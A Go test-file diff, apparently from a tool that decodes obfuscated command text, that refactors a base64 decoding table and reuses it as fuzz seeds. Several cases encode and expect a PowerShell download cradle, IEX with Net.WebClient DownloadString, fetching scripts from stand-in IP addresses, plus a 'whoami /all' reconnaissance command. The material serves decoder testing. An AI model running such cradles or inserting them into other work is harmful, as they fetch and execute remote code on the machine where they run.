@@ -7,27 +7,29 @@ import (
 	"testing"
 )
 
+// base64Cases are the DecodeBase64Text table; they also seed its fuzz target.
+var base64Cases = []struct {
+	name, in, want string
+	ok             bool
+}{
+	{"utf16le", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA==", `Write-Output "hello trawl"`, true},
+	{"utf16le download cradle", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACIAKQA=",
+		`IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1")`, true},
+	{"utf16le latin-1", "YwBhAGYA6QAgAPwAbQBsAGEAdQB0AA==", "café ümlaut", true},
+	{"utf16le missing padding", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA", `Write-Output "hello trawl"`, true},
+	{"utf8", "d2hvYW1pIC9hbGw=", "whoami /all", true},
+	{"not base64", "not*base64!", "", false},
+	{"gzip payload", "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQyigpKbDS1ze0tNAzNdQzNDDQs9QvLklMT1XSBACVJG5MSgAAAA==",
+		`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
+	{"raw deflate payload", "83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DKKCkpsNLXN7S00DM11DM0MNCz1C8uSUxPVdIEAA==",
+		`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
+	{"truncated gzip", "H4sIAAAAAAAEAAsJ", "", false},
+	{"binary", "AAECAwQFBgcICQ==", "", false},
+	{"empty", "", "", false},
+}
+
 func TestDecodeBase64Text(t *testing.T) {
-	cases := []struct {
-		name, in, want string
-		ok             bool
-	}{
-		{"utf16le", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA==", `Write-Output "hello trawl"`, true},
-		{"utf16le download cradle", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACIAKQA=",
-			`IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1")`, true},
-		{"utf16le latin-1", "YwBhAGYA6QAgAPwAbQBsAGEAdQB0AA==", "café ümlaut", true},
-		{"utf16le missing padding", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA", `Write-Output "hello trawl"`, true},
-		{"utf8", "d2hvYW1pIC9hbGw=", "whoami /all", true},
-		{"not base64", "not*base64!", "", false},
-		{"gzip payload", "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQyigpKbDS1ze0tNAzNdQzNDDQs9QvLklMT1XSBACVJG5MSgAAAA==",
-			`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
-		{"raw deflate payload", "83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DKKCkpsNLXN7S00DM11DM0MNCz1C8uSUxPVdIEAA==",
-			`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
-		{"truncated gzip", "H4sIAAAAAAAEAAsJ", "", false},
-		{"binary", "AAECAwQFBgcICQ==", "", false},
-		{"empty", "", "", false},
-	}
-	for _, tc := range cases {
+	for _, tc := range base64Cases {
 		t.Run(tc.name, func(t *testing.T) {
 			got, ok := DecodeBase64Text(tc.in)
 			if got != tc.want || ok != tc.ok {
@@ -155,6 +157,9 @@ func TestLists(t *testing.T) {
 func FuzzDecodeBase64Text(f *testing.F) {
 	for _, s := range []string{"VwByAGkAdABlAA==", "d2hvYW1p", "", "====", "YwBhAGYA6QAgAPwA"} {
 		f.Add(s)
+	}
+	for _, tc := range base64Cases {
+		f.Add(tc.in)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
 		text, ok := DecodeBase64Text(s)
